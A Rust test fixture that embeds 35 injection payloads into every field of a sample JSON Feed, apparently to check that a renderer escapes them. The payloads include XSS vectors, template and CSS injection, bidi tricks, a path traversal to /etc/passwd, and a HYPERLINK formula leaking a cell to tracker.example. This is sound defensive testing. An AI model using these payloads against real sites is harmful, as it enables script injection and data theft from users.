//! Attacks, and every field of a JSON Feed that they are put into.

use serde_json::Value;

/// Says that a script has run.
pub(crate) const PWNED: &str = "window.__pwned=1";

/// What somebody might write into a field; `RUN` stands for what says so.
const PAYLOADS: [(&str, &str); 35] = [
    ("script", "<script>RUN</script>"),
    ("end of script", "</script><script>RUN</script>"),
    ("end of style", "</style><script>RUN</script>"),
    ("end of title", "</title></head><body onload=RUN>"),
    ("comment", "<!--<script>RUN//--><script>RUN</script>"),
    ("cdata", "]]><script>RUN</script><![CDATA["),
    ("image", "<img src=x onerror=\"RUN\">"),
    (
        "remote image",
        "<img src=\"https://tracker.example/p.gif\">",
    ),
    (
        "attribute",
        "\" onmouseover=\"RUN\" autofocus onfocus=\"RUN\" x=\"",
    ),
    (
        "attribute, single",
        "' onclick='RUN' style='position:fixed;inset:0",
    ),
    ("link", "javascript:RUN"),
    ("link with case and space", " JaVa\tScRiPt\n:RUN"),
    ("link with control", "\u{1}javascript:RUN"),
    ("entity", "&#106;avascript:RUN&colon;"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("data page", "data:text/html,<script>RUN</script>"),
    (
        "data svg",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><script>RUN</script></svg>",
    ),
    (
        "svg",
        "<svg onload=RUN><a href='javascript:RUN'><text y=9>x</text></a></svg>",
    ),
    (
        "svg set",
        "<svg><set attributeName=href to=javascript:RUN></svg>",
    ),
    (
        "math",
        "<math><mi xlink:href=\"javascript:RUN\">x</mi></math>",
    ),
    (
        "style",
        "<style>*{background:url(https://tracker.example/s)}body{display:none}</style>",
    ),
    (
        "css",
        "red;background:url(javascript:RUN);position:fixed;inset:0",
    ),
    (
        "css escape",
        "\\3c script\\3e RUN;}</style>*{content:url(//tracker.example)}",
    ),
    ("import", "@import 'https://tracker.example/x.css';"),
    (
        "frame",
        "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
    ),
    (
        "base",
        "<base href=\"https://tracker.example/\"><meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
    ),
    (
        "form",
        "<form action=https://tracker.example/><button autofocus>Đăng nhập</button></form>",
    ),
    (
        "template",
        "{{constructor.constructor('RUN')()}} ${RUN} #{RUN} <%= RUN %>",
    ),
    (
        "bidi override",
        "abc \u{202e}txt.exe\u{202c} \u{2066}\u{2067}x\u{2069} \u{200f}",
    ),
    ("zero width", "đ\u{200b}ả\u{200d}n\u{feff}g\u{ad}"),
    (
        "controls",
        "a\u{0}b\u{8}c\u{1b}[31md\u{7f}\u{85}e\u{2028}f\u{2029}",
    ),
    ("no characters", "\u{fffe}\u{ffff}\u{10ffff}\u{fdd0}"),
    (
        "formula",
        "=HYPERLINK(\"https://tracker.example/?\"&A1,\"x\")",
    ),
    ("path", "../../../../etc/passwd\u{0}.html"),
    ("prototype", "__proto__"),
];

/// What somebody might write into a field: name and text.
pub(crate) fn payloads() -> Vec<(&'static str, String)> {
    let short = PAYLOADS.map(|(name, text)| (name, text.replace("RUN", PWNED)));
    let marks = format!("o{}", "\u{309}\u{323}".repeat(60));
    let long = [
        ("marks without end", marks),
        ("word without end", "ữ".repeat(4_000)),
    ];
    short.into_iter().chain(long).collect()
}

/// Where they are put, as JSON pointers into the feed.
pub(crate) const FIELDS: [&str; 38] = [
    "/version",
    "/title",
    "/description",
    "/language",
    "/home_page_url",
    "/icon",
    "/authors/0/name",
    "/authors/0/url",
    "/_biennien/archive_id",
    "/_biennien/rights",
    "/_biennien/contact",
    "/_biennien/language",
    "/items/0/id",
    "/items/0/url",
    "/items/0/external_url",
    "/items/0/title",
    "/items/0/summary",
    "/items/0/language",
    "/items/0/image",
    "/items/0/date_published",
    "/items/0/authors/0/name",
    "/items/0/tags/0",
    "/items/0/content_text",
    "/items/0/_biennien/section",
    "/items/0/_biennien/place",
    "/items/0/_biennien/sources/0",
    "/items/0/_biennien/date",
    "/items/0/_biennien/blocks/0/type",
    "/items/0/_biennien/blocks/0/text",
    "/items/0/_biennien/blocks/0/spans/0/href",
    "/items/0/_biennien/blocks/1/text",
    "/items/0/_biennien/blocks/2/items/0",
    "/items/0/_biennien/blocks/3/attribution",
    "/items/0/_biennien/blocks/4/src",
    "/items/0/_biennien/blocks/4/alt",
    "/items/0/_biennien/blocks/4/caption",
    "/items/0/_biennien/blocks/5/rows/0/0",
    "/items/0/_biennien/blocks/6/text",
];

/// A feed of one article that has everything, and one that nothing happens to.
const FEED: &str = r#"{
  "version": "https://jsonfeed.org/version/1.1",
  "title": "Kho", "description": "Thử", "language": "vi",
  "home_page_url": "https://kho.example/", "icon": "https://kho.example/icon.png",
  "authors": [{ "name": "Thư viện", "url": "https://kho.example/" }],
  "_biennien": { "archive_id": "kho", "rights": "CC0", "contact": "a@kho.example", "language": "vi" },
  "items": [{
    "id": "1", "url": "https://kho.example/1", "external_url": "https://kho.example/2",
    "title": "Bài một", "summary": "Tóm tắt", "language": "vi",
    "image": "https://kho.example/1.png", "date_published": "2019-07-08T00:00:00+07:00",
    "authors": [{ "name": "Lan" }], "tags": ["thẻ"], "content_text": "Chữ",
    "_biennien": {
      "section": "Mục", "place": "Nơi", "sources": ["Báo"], "date": "2019-07-08",
      "blocks": [
        { "type": "paragraph", "text": "Một hai ba",
          "spans": [{ "start": 0, "end": 3, "kind": "link", "href": "https://kho.example/" }] },
        { "type": "heading", "level": 2, "text": "Đề mục" },
        { "type": "list", "ordered": false, "items": ["mục"] },
        { "type": "quote", "text": "Lời", "attribution": "Ai" },
        { "type": "figure", "src": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "alt": "ảnh", "caption": "chú thích" },
        { "type": "table", "header": ["a"], "rows": [["b"]] },
        { "type": "code", "text": "x = 1" }
      ]
    }
  }, {
    "id": "bystander", "title": "Bài lành", "content_text": "Không việc gì.",
    "_biennien": { "date": "2001-02-03" }
  }]
}"#;

/// Returns the feed with something else in one field.
pub(crate) fn feed_with(field: &str, value: Value) -> Value {
    let mut feed: Value = serde_json::from_str(FEED).expect("it is JSON");
    if let Some(place) = feed.pointer_mut(field) {
        *place = value;
    }
    feed
}

/// A feed in which every attack has an article that carries it in every field
/// that takes it.
#[allow(dead_code, reason = "the browser suite's alone")]
pub(crate) fn every_attack() -> Value {
    let mut feed: Value = serde_json::from_str(FEED).expect("it is JSON");
    let calm = ["version", "date", "date_published", "type", "src"];
    let mut items = Vec::new();
    for (nth, (name, payload)) in payloads().into_iter().enumerate() {
        let mut item = feed["items"][0].clone();
        for field in FIELDS
            .iter()
            .filter_map(|field| field.strip_prefix("/items/0"))
        {
            let is_calm = calm.iter().any(|end| field.ends_with(end));
            if let Some(place) = item.pointer_mut(field).filter(|_| !is_calm) {
                *place = Value::from(payload.clone());
            }
        }
        item["id"] = format!("{nth} {payload}").into();
        item["title"] = format!("Đòn {name} {payload}").into();
        items.push(item);
    }
    let all: Vec<String> = payloads().into_iter().map(|(_, text)| text).collect();
    feed["title"] = format!("{} =\"", all[0]).into();
    feed["description"] = all.join(" ").into();
    feed["language"] = format!("vi\"><script>{PWNED}</script>").into();
    feed["authors"][0]["name"] = all.join(" ").into();
    feed["items"] = items.into();
    feed
}
